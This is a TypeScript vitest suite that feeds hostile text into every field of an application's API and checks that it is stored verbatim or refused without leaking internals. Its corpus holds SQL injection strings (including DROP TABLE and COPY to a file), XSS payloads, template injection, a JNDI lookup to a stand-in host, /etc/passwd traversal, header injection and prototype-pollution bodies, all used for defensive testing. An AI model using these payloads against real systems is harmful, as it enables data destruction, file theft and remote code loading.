import { callNames, calls, type CallName } from "@shanyraq/calls";
import { schemas } from "@shanyraq/calls/schemas";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { seededPeople } from "../../seed/seeded-person.ts";
import { openWorld, prepared, send, type InputFields } from "../../testing/make-rightly.ts";
import type { World } from "../../testing/fixtures.ts";

/** Text that breaks a program which treats it as something else: as SQL, HTML, a template, a path, a header, a prototype, a number. */
const corpus = [
  "'; DROP TABLE customer; --",
  "' OR '1'='1",
  "1; SELECT pg_sleep(10)--",
  "\\'; COPY customer TO '/tmp/x'; --",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "{{constructor.constructor('return 1')()}}",
  "${jndi:ldap://evil.example/a}",
  "../../../../etc/passwd",
  "%2e%2e%2f%00",
  "a\r\nSet-Cookie: sid=evil",
  "__proto__",
  "constructor",
  "\u0000",
  "\uD800",
  "\u202Egnp.exe",
  "9".repeat(400),
  "NaN",
  "2026-02-30",
  "🏳️‍🌈".repeat(300),
] as const;
/** What reveals the inside: a stack, a statement, a driver, a path of this machine. */
const INSIDE = /\bat [\w.<>]+ \(|node_modules|file:\/\/|\.ts:\d+|SELECT |INSERT |syntax error|violates/;

type Path = readonly (string | number)[];

/** Where an input contains text. */
function textsIn(value: unknown, path: Path = []): readonly Path[] {
  if (typeof value === "string") return [path];
  if (Array.isArray(value)) return value.flatMap((one, index) => textsIn(one, [...path, index]));
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) => textsIn(inner, [...path, key]));
}
function put(value: unknown, [key, ...rest]: Path, text: unknown): unknown {
  if (key === undefined) return text;
  if (Array.isArray(value)) return value.map((one: unknown, index) => (index === key ? put(one, rest, text) : one));
  return { ...(value as InputFields), [key]: put((value as InputFields)[key], rest, text) };
}
interface Described {
  readonly type?: string;
  readonly fields?: Readonly<Record<string, Described>>;
}
/** Every field of a row that takes text: those of its fixture, and those that it leaves out. */
function fieldsOf(name: CallName, input: InputFields): readonly Path[] {
  const { fields = {} } = schemas[name].input.describe() as Described;
  const others = Object.entries(fields).flatMap(([key, { type }]) => (type === "string" && typeof input[key] !== "string" ? [[key]] : []));
  return [...textsIn(input), ...others];
}

const built = callNames;
let world: World;
let people: string;
/** Those who were there before; hostile names may have opened accounts of their own. */
const customers = async () =>
  JSON.stringify(
    await world.office.database.queries
      .selectFrom("customer")
      .select(["id", "role", "iin", "phone"])
      .where(
        "id",
        "in",
        seededPeople.map(({ id }) => id),
      )
      .orderBy("id")
      .execute(),
  );
beforeAll(async () => {
  world = await openWorld();
  people = await customers();
});
afterAll(() => world.office.database.close());

let fields = 0;
describe("S36: hostile text", () => {
  it.each(built.filter((name) => name !== "logout" && name !== "changePassword"))(
    "in every field of %s is kept as text, or refused",
    async (name) => {
      const { token, input } = await prepared(world, name);
      for (const path of fieldsOf(name, input)) {
        fields += 1;
        for (const text of corpus) {
          const { status, body } = await send(world, name, put(input, path, text) as InputFields, token);
          // The name of a file and an unsent draft are returned as they are kept: words of the sender, not of the inside.
          const sent = JSON.stringify({ ...body, name: undefined, draft: undefined });
          expect([path, text, status < 500, INSIDE.exec(sent)?.[0]]).toEqual([path, text, true, undefined]);
        }
      }
      await world.office.settled();
    },
  );
  it("reaches no prototype, under any key and at any depth", async () => {
    for (const name of built.filter((one) => calls[one].method === "POST" && one !== "logout")) {
      const { token, input } = await prepared(world, name);
      const inner = JSON.stringify(input).slice(1, -1);
      const more = inner === "" ? "" : `,${inner}`;
      for (const key of ["__proto__", "constructor", "prototype"]) {
        const body = `{"${key}":{"polluted":"yes","role":"manager","prototype":{"polluted":"yes"}}${more}}`;
        const { status } = await world.office.ask("POST", calls[name].path, { body, token });
        expect([name, key, status < 500]).toEqual([name, key, true]);
      }
    }
    expect(({} as InputFields)["polluted"]).toBeUndefined();
  });
  it("was sent in hundreds of fields, and left every table and every customer unchanged", async () => {
    expect(fields).toBeGreaterThan(200);
    expect(await customers()).toBe(people);
    const { rows } = await sql<{ count: number }>`SELECT count(*)::int AS count FROM pg_tables WHERE schemaname = 'public'`.execute(
      world.office.database.queries,
    );
    expect(rows[0]?.count).toBeGreaterThan(20);
    expect((await world.office.post("/api/login", { iin: world.office.person("overdue").iin, password: "wrong" })).status).toBe(401);
  });
  it("that was kept is returned letter by letter: nothing was cut out, and nothing was run", async () => {
    const name = `<b>O'Neil</b> "&amp;" ${"${self}"} {{self}}`;
    const input = { name, phone: "+7 (700) 555-44-90", time: name, minor: false };
    expect((await send(world, "callback", input, undefined)).status).toBe(200);
    const kept = await world.office.database.queries
      .selectFrom("callback_request")
      .select(["name", "preferred_time"])
      .where("phone", "=", "77005554490")
      .executeTakeFirstOrThrow();
    expect(kept).toEqual({ name, preferred_time: name });
  });
});
